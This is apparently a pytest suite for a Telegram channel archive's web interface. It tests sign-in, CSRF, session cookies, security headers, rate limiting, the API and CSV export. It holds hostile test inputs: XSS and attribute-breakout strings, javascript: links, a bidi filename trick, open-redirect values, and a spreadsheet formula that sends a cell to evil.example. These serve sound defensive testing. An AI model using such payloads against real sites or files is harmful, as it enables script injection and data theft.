"""The archive over real HTTP: a real `tgsentinel web` process on 127.0.0.1 over a store filled by
`tgsentinel replay`, spoken to with httpx. Sign-in, the session cookie, CSRF, the security headers,
hostile post text, the JSON API and its OpenAPI description, and the command's own errors."""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from bot.settings import Settings
from tests.cli import ROOT, tgs, tgs_process
from tests.conftest import FIXTURES, SAMPLE
from tests.test_run import free_port, wait_for

TOKEN = "webSECRETtoken-0123456789abcdefghijkl"
CYRILLIC = FIXTURES / "cyrillic_channel_dump.txt"
# What a hostile channel may post: markup, an attribute breakout, a bidi override that turns
# "exe.png" around on screen, and links to a javascript: URL. `санкциям` makes it findable.
HOSTILE_TEXT = '<script>alert(1)</script> "><img src=x onerror=alert(1)> санкциям \u202egnp.exe '
CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "form-action 'self'; frame-ancestors 'none'; base-uri 'none'; connect-src 'self'"
)


def hostile_export(path: Path) -> None:
    """A Telegram Desktop export of one channel post with the hostile text and a `javascript:` link."""
    parts = [
        {"type": "plain", "text": HOSTILE_TEXT},
        {"type": "text_link", "text": "click me", "href": "javascript:alert(1)"},
        {"type": "plain", "text": " "},
        {"type": "text_link", "text": "and me", "href": "JaVaScRiPt:alert(2)"},
        {"type": "plain", "text": " "},
        {"type": "text_link", "text": "a real one", "href": "https://example.org/report"},
    ]
    message = {
        "id": 7,
        "type": "message",
        "date": "2024-09-01T10:00:00",
        "date_unixtime": "1725184800",
        "from": "Hostile",
        "from_id": "channel1234567",
        "text": [p if p["type"] != "plain" else p["text"] for p in parts],
        "text_entities": parts,
    }
    export = {"name": "<i>Hostile</i>", "type": "public_channel", "id": 1234567, "messages": [message]}
    path.write_text(json.dumps(export, ensure_ascii=False), encoding="utf-8")


class Web:
    """`tgsentinel web` as a process, its stderr collected line by line."""

    def __init__(self, db: str, cwd: Path, **env: str) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        base = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith(("TGSENTINEL_", "TELEGRAM_", "DATABASE_URL"))
        }
        path = os.pathsep.join(p for p in (str(ROOT), os.environ.get("PYTHONPATH", "")) if p)
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "bot.cli", "web", "--db", db, "--port", str(self.port)],
            cwd=cwd,
            env={**base, "PYTHONPATH": path, "TGSENTINEL_WEB_TOKEN": TOKEN, **env},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        self.lines: list[str] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        wait_for(self._serving, timeout=30, what="tgsentinel web to serve")

    def _read(self) -> None:
        assert self.proc.stderr is not None
        for raw in self.proc.stderr:
            self.lines.append(raw.decode(errors="replace").rstrip("\n"))

    def _serving(self) -> bool:
        if self.proc.poll() is not None:
            raise AssertionError(f"tgsentinel web exited {self.proc.returncode}: {self.lines}")
        try:
            httpx.get(f"{self.url}/login", timeout=1)
        except httpx.TransportError:
            return False
        return True

    def stop(self) -> str:
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=15)
        self._reader.join(timeout=5)
        return "\n".join(self.lines)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A SQLite store with the Cyrillic dump, the MFA sample and the hostile post, replayed."""
    where = tmp_path_factory.mktemp("web")
    db = f"sqlite:///{where / 'archive.db'}"
    hostile = where / "hostile.json"
    hostile_export(hostile)
    for source, channel in ((CYRILLIC, "x"), (SAMPLE, "mfa"), (hostile, "hostile")):
        ran = tgs("replay", str(source), "--channel", channel, "--db", db)
        assert ran.returncode == 0, ran.stderr.decode()
    return db


@pytest.fixture(scope="module")
def web(store: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    server = Web(store, tmp_path_factory.mktemp("cwd"))
    try:
        yield server
    finally:
        log = server.stop()
        # SIGTERM stops it cleanly, and the log says where it served and never the token.
        assert server.proc.returncode == 0, log
        served = [ln for ln in log.splitlines() if "archive at" in ln]
        assert len(served) == 1 and served[0].endswith(f"archive at {server.url}/ over {store}"), log
        assert TOKEN not in log and "Traceback" not in log, log


def client(web: Web) -> httpx.Client:
    return httpx.Client(base_url=web.url, follow_redirects=False, timeout=10)


def csrf_of(page: httpx.Response) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found, page.text[:2000]
    return found.group(1)


@contextlib.contextmanager
def signed_in(web: Web) -> Iterator[tuple[httpx.Client, httpx.Response]]:
    """A client signed in through the form, and the sign-in's response."""
    with client(web) as http:
        form = http.get("/login")
        done = http.post("/login", data={"token": TOKEN, "csrf_token": csrf_of(form), "next": "/search"})
        assert done.status_code == 303 and done.headers["location"] == "/search", done.text
        yield http, done


def bearer() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


class _Tags(HTMLParser):
    """Every element and attribute a browser would build from a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def inert(html: str) -> None:
    """Nothing of the hostile post became an element, a handler, a javascript: link or an override."""
    parser = _Tags()
    parser.feed(html)
    scripts = [attrs.get("src") for tag, attrs in parser.tags if tag == "script"]
    assert scripts in ([], ["/static/htmx.min.js"]), scripts
    assert not [tag for tag, _ in parser.tags if tag in ("img", "iframe", "object", "embed", "svg")]
    assert not [(tag, a) for tag, attrs in parser.tags for a in attrs if a.startswith("on")]
    hrefs = [attrs["href"] for _, attrs in parser.tags if "href" in attrs]
    assert all(h.startswith(("/", "https://", "http://")) for h in hrefs), hrefs
    assert "javascript:" not in html.lower()
    assert "\u202e" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text


# --- not signed in ----------------------------------------------------------------------------------


def test_without_sign_in_pages_redirect_to_login_and_the_api_is_401(web: Web) -> None:
    with client(web) as http:
        page = http.get("/search", params={"q": "коридор"})
        assert page.status_code == 303
        # Back to the same search after signing in.
        assert page.headers["location"] == "/login?next=" + quote("/search?q=" + quote("коридор"), safe="")
        for path in ("/posts/1", "/", "/rules", "/alerts", "/channels"):
            assert http.get(path).status_code == 303, path
        for path in ("/api/search?q=x", "/api/posts/1", "/api/openapi.json", "/api/search/export"):
            refused = http.get(path)
            assert refused.status_code == 401, path
            assert refused.json() == {"error": "sign in, or send Authorization: Bearer TOKEN"}
            assert refused.headers["content-security-policy"] == CSP
        # The sign-in page and the static files are open; everything has the security headers.
        login = http.get("/login")
        assert login.status_code == 200 and 'name="token"' in login.text
        for response in (login, http.get("/static/app.css"), http.get("/static/htmx.min.js"), page):
            assert response.status_code in (200, 303)
            assert response.headers["content-security-policy"] == CSP
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["referrer-policy"] == "no-referrer"
            assert response.headers["x-frame-options"] == "DENY"


def test_a_wrong_token_is_refused_slowly_and_never_echoed(web: Web) -> None:
    with client(web) as http:
        form = http.get("/login")
        started = time.monotonic()
        wrong = http.post(
            "/login", data={"token": TOKEN[:-1] + "X", "csrf_token": csrf_of(form), "next": "/"}
        )
        assert time.monotonic() - started >= 0.9  # a short delay per wrong guess
        assert wrong.status_code == 401 and "That is not the token." in wrong.text
        assert TOKEN[:-1] not in wrong.text
        assert "set-cookie" not in wrong.headers or "auth" not in wrong.headers["set-cookie"]
        assert http.get("/search").status_code == 303  # still not signed in
        assert http.get("/api/search", headers={"Authorization": "Bearer nope"}).status_code == 401
        # An open redirect is no reward for signing in either.
        for evil in ("https://evil.example/", "//evil.example/", "/\\evil.example"):
            page = http.get("/login", params={"next": evil})
            assert 'name="next" value="/search"' in page.text, evil


def test_guesses_in_parallel_are_refused_at_once_and_never_compared(web: Web) -> None:
    # While one wrong token waits out its delay, no other token is even compared: a parallel guess
    # learns nothing (429, even the right token), and guesses never pile up on the port's connections.
    wrong = {"Authorization": "Bearer nope"}
    with client(web) as first, client(web) as second:
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            waiting = pool.submit(first.get, "/api/search", headers=wrong)
            deadline = time.monotonic() + 5
            while True:
                got = second.get("/api/search", params={"q": "x"}, headers=bearer())
                if got.status_code == 429 or waiting.done() or time.monotonic() > deadline:
                    break
            assert got.status_code == 429 and got.headers["retry-after"] == "1", got.text
            assert "token" in got.json()["error"] and TOKEN not in got.text
            assert waiting.result().status_code == 401
        assert second.get("/api/search", params={"q": "x"}, headers=bearer()).status_code == 200


def test_a_link_followed_from_a_chat_keeps_the_user_signed_in(web: Web) -> None:
    """A cross-site navigation comes without the SameSite=Strict cookie. It is asked again from the
    site itself (where the browser sends it), with no new session written over the user's."""
    with signed_in(web) as (http, _):
        cookies = dict(http.cookies)
        http.cookies.clear()  # what the browser leaves out of a cross-site request
        link = http.get("/posts/1", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"})
        assert link.status_code == 200 and "set-cookie" not in link.headers
        assert '<meta http-equiv="refresh" content="0; url=/posts/1">' in link.text
        http.cookies.update(cookies)  # the same-site reload: the cookie goes with it
        again = http.get("/posts/1", headers={"Sec-Fetch-Site": "same-origin"})
        assert again.status_code in (200, 404) and "/login" not in str(again.url)


def test_a_partial_whose_session_ran_out_sends_the_whole_page_to_sign_in(web: Web) -> None:
    with client(web) as http:
        got = http.get(
            "/search",
            params={"q": "x"},
            headers={"HX-Request": "true", "HX-Current-URL": f"{web.url}/search?q=x"},
        )
        assert got.status_code == 401 and got.text == ""
        assert got.headers["hx-redirect"] == "/login?next=" + quote("/search?q=x", safe="")


# --- signed in ----------------------------------------------------------------------------------------


def test_the_session_cookie_is_httponly_and_samesite_strict(web: Web) -> None:
    with signed_in(web) as (_, done):
        cookie = done.headers["set-cookie"]
        flags = {part.strip().lower() for part in cookie.split(";")[1:]}
        assert {"httponly", "samesite=strict", "path=/"} <= flags
        assert "secure" not in flags  # plain http on loopback: TGSENTINEL_WEB_HTTPS is off
        assert TOKEN not in cookie


def test_signed_in_the_search_page_finds_an_inflected_cyrillic_word(web: Web) -> None:
    with signed_in(web) as (http, _):
        # The dump says "транспортным коридорам"; the query has other forms of both words.
        page = http.get("/search", params={"q": "транспортный коридор"})
        assert page.status_code == 200, page.text
        assert page.headers["content-security-policy"] == CSP
        hits = re.findall(r'<li class="hit">.*?</li>', page.text, re.S)
        assert len(hits) == 1, page.text
        assert "<mark>коридорам</mark>" in hits[0] and "dump:x" in hits[0]
        assert 'href="/posts/' in hits[0]
        # htmx asks for the results block alone, and gets it.
        part = http.get("/search", params={"q": "транспортный коридор"}, headers={"HX-Request": "true"})
        assert part.text.lstrip().startswith('<section id="results"') and "<html" not in part.text
        # The post page it links to shows the post and the rules it matched.
        post = http.get(re.search(r'href="(/posts/\d+)[?"]', hits[0]).group(1))
        assert post.status_code == 200 and "коридорам" in post.text and "Rules matched" in post.text


def test_a_post_without_its_csrf_token_is_refused(web: Web) -> None:
    with signed_in(web) as (http, _):
        page = http.get("/search")
        token = csrf_of(page)
        assert http.post("/logout").status_code == 403
        assert http.post("/logout", data={"csrf_token": "forged"}).status_code == 403
        assert http.post("/logout", headers={"X-CSRF-Token": "forged"}).status_code == 403
        assert http.get("/search").status_code == 200  # still signed in
        out = http.post("/logout", headers={"X-CSRF-Token": token})  # htmx sends it as a header
        assert out.status_code == 303 and out.headers["location"] == "/login"
        assert http.get("/search").status_code == 303
    with client(web) as fresh:
        # Signing in is a POST too: without the token its page put in the session, refused.
        assert fresh.post("/login", data={"token": TOKEN}).status_code == 403


def test_a_hostile_post_renders_inert_in_the_results_and_on_its_page(web: Web) -> None:
    with signed_in(web) as (http, _):
        page = http.get("/search", params={"q": "санкции"})
        assert page.status_code == 200 and page.headers["content-security-policy"] == CSP
        hits = [h for h in re.findall(r'<li class="hit">.*?</li>', page.text, re.S) if "dump:hostile" in h]
        assert len(hits) == 1, page.text
        inert(page.text)
        post = http.get(re.search(r'href="(/posts/\d+)[?"]', hits[0]).group(1))
        assert post.status_code == 200 and post.headers["content-security-policy"] == CSP
        inert(post.text)
        # The http(s) link is a link, and one that tells the target nothing.
        assert (
            '<a href="https://example.org/report" rel="noopener noreferrer nofollow">a real one</a>'
            in post.text
        )
        assert "click me" in post.text and "and me" in post.text  # plain text, not links
        assert "gnp.exe" in post.text


# --- the API -----------------------------------------------------------------------------------------


def test_the_api_answers_a_bearer_token_with_hits_pages_posts_and_errors(web: Web) -> None:
    with client(web) as http:
        found = http.get("/api/search", params={"q": "коридорам"}, headers=bearer())
        assert found.status_code == 200, found.text
        body = found.json()
        assert set(body) == {"hits", "next_cursor"} and len(body["hits"]) == 1
        hit = body["hits"][0]
        assert hit["channel"] == "dump:x" and any(is_hit for _, is_hit in hit["snippet"])
        post = http.get(f"/api/posts/{hit['row_id']}", headers=bearer())
        assert post.status_code == 200 and "коридорам" in post.json()["text"]
        assert post.json()["channel"]["key"] == "dump:x"
        assert http.get("/api/posts/999999", headers=bearer()).json() == {
            "error": "no post 999999 in the store"
        }

        # Every post, two at a time, through the keyset cursor.
        seen: list[int] = []
        cursor: str | None = None
        while True:
            params: dict[str, Any] = {"q": "", "channel": "dump:mfa", "limit": 2}
            if cursor:
                params["cursor"] = cursor
            got = http.get("/api/search", params=params, headers=bearer()).json()
            seen += [h["row_id"] for h in got["hits"]]
            cursor = got["next_cursor"]
            if cursor is None:
                break
        assert len(seen) == 11 == len(set(seen))

        for bad in (
            {"since": "last week"},
            {"limit": "0"},
            {"order": "sideways"},
            {"edited": "maybe"},
            {"until": "9999-12-31"},  # the day after has no datetime
            {"since": "0001-01-01T00:00+05:00"},  # nor has this a UTC time
        ):
            refused = http.get("/api/search", params={"q": "x", **bad}, headers=bearer())
            assert refused.status_code == 400 and set(refused.json()) == {"error"}, bad


def test_a_bad_query_in_the_htmx_form_shows_its_error_in_place(web: Web) -> None:
    # htmx swaps no 4xx answer: a 400 fragment would leave the old results up, with no word of why.
    with signed_in(web) as (http, _):
        got = http.get("/search", params={"q": '"unclosed'}, headers={"HX-Request": "true"})
        assert got.status_code == 200 and "unclosed quote" in got.text
        assert "<html" not in got.text  # the fragment, not the page


CSV_TEXT = 6  # the "text" column


def test_the_exports_stream_the_whole_result_set(web: Web) -> None:
    with client(web) as http:
        params = {"q": "", "channel": "dump:mfa"}
        lines = http.get("/api/search/export", params={**params, "format": "jsonl"}, headers=bearer())
        assert lines.status_code == 200 and lines.headers["content-type"].startswith("application/x-ndjson")
        records = [json.loads(line) for line in lines.text.splitlines()]
        assert len(records) == 11 and all(r["channel"] == "dump:mfa" for r in records)
        table = http.get("/api/search/export", params={**params, "format": "csv"}, headers=bearer())
        rows = list(csv.reader(io.StringIO(table.text)))
        assert rows[0][0] == "row_id" and len(rows) == 12
        assert "attachment" in table.headers["content-disposition"]
        # Whole posts, not snippets: the sample's first post says this some 1,000 characters in.
        deep = "universally recognised norms of international law"
        assert [r for r in records if deep in r["text"]] and not [
            r for r in records if deep in str(r["snippet"])
        ]
        assert [row for row in rows if deep in row[CSV_TEXT]]


def test_the_openapi_document_parses_and_covers_every_api_route(web: Web, store: str) -> None:
    from bot.store.db import make_engine
    from bot.web.app import create_app

    with client(web) as http:
        doc = http.get("/api/openapi.json", headers=bearer())
    assert doc.status_code == 200
    schema = doc.json()
    assert schema["openapi"].startswith("3.")
    engine = make_engine(store, create=False)
    try:
        app = create_app(engine, token=TOKEN, rules_dir=ROOT / "rules")
    finally:
        engine.dispose()
    api = {
        re.sub(r"\{(\w+):\w+\}", r"{\1}", route.path): {m.lower() for m in route.methods or ()} - {"head"}
        for route in app.routes
        if getattr(route, "path", "").startswith("/api/")
    }
    assert {"/api/search", "/api/search/export", "/api/posts/{row_id}", "/api/openapi.json"} <= set(api)
    for path, methods in api.items():
        assert path in schema["paths"], f"{path} has no OpenAPI description (a YAML docstring)"
        assert methods <= set(schema["paths"][path]), path
        for operation in schema["paths"][path].values():
            assert "responses" in operation, path
    for ref in re.findall(r'"\$ref": "#/components/parameters/(\w+)"', json.dumps(schema)):
        assert ref in schema["components"]["parameters"]


def test_https_marks_the_cookie_secure(store: str) -> None:
    """TGSENTINEL_WEB_HTTPS, for a TLS proxy in front: the same sign-in, a Secure cookie."""
    import asyncio

    from bot.store.db import make_engine
    from bot.web.app import create_app

    async def sign_in() -> str:
        engine = make_engine(store, create=False)
        app = create_app(engine, token=TOKEN, rules_dir=ROOT / "rules", https=True)
        transport = httpx.ASGITransport(app=app)
        try:
            async with httpx.AsyncClient(transport=transport, base_url="https://archive.test") as http:
                form = await http.get("/login")
                done = await http.post("/login", data={"token": TOKEN, "csrf_token": csrf_of(form)})
                return done.headers["set-cookie"]
        finally:
            engine.dispose()

    cookie = asyncio.run(sign_in())
    assert "secure" in {part.strip().lower() for part in cookie.split(";")}


# --- the command --------------------------------------------------------------------------------------


def test_web_refuses_to_start_without_a_token_or_a_store(tmp_path: Path, store: str) -> None:
    ran = tgs_process("web", "--db", store, cwd=tmp_path)
    assert ran.returncode == 2
    assert ran.stderr.decode().splitlines() == [
        "tgsentinel: TGSENTINEL_WEB_TOKEN is not set: the archive needs a sign-in token "
        "(`tgsentinel init` writes one into .env)"
    ]
    env = {"TGSENTINEL_WEB_TOKEN": TOKEN}
    missing = tgs_process("web", "--db", f"sqlite:///{tmp_path / 'nothing.db'}", env=env, cwd=tmp_path)
    assert missing.returncode == 2
    assert missing.stderr.decode().splitlines() == [f"tgsentinel: no database at {tmp_path / 'nothing.db'}"]
    bare = tmp_path / "bare.db"
    _bare_sqlite(bare)
    unmigrated = tgs_process("web", "--db", f"sqlite:///{bare}", env=env, cwd=tmp_path)
    assert unmigrated.returncode == 2
    assert unmigrated.stderr.decode().splitlines() == [
        f"tgsentinel: the database at sqlite:///{bare} has no tgsentinel schema: "
        "run 'tgsentinel db upgrade' first"
    ]


def _bare_sqlite(path: Path) -> None:
    import sqlite3

    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE t (x)")


def test_init_writes_a_random_web_token_and_settings_keep_it_secret(tmp_path: Path) -> None:
    tokens = []
    for name in ("one", "two"):
        ran = tgs("init", str(tmp_path / name))
        assert ran.returncode == 0, ran.stderr
        env = (tmp_path / name / ".env").read_text()
        found = re.findall(r"^TGSENTINEL_WEB_TOKEN=(\S+)$", env, re.M)
        assert len(found) == 1 and len(found[0]) >= 43, env
        tokens.append(found[0])
    assert tokens[0] != tokens[1]
    settings = Settings(_env_file=None, web_token=tokens[0])
    assert tokens[0] not in repr(settings) and tokens[0] in settings.secrets()


def test_the_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
    # A post is hostile input, and a spreadsheet runs a cell that starts with = + - @ as a formula.
    from bot.search import Hit
    from bot.web.search import _formatter

    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    hit = Hit(
        row_id=1,
        channel_id=1,
        channel="@news",
        msg_id=5,
        date=None,
        url=None,
        title=formula,
        snippet=((f"{formula} and more", False),),
        media=(),
        forwarded_from="-2+3",
        edited=False,
        deleted=False,
        score=None,
        text=f"{formula} and more",
    )
    _, _, as_csv = _formatter("csv")
    header, row = list(csv.reader(io.StringIO(as_csv([hit], True))))
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + formula and cells["text"].startswith("'=HYPERLINK")
    assert cells["forwarded_from"] == "'-2+3" and cells["channel"] == "'@news"
    assert cells["row_id"] == "1"
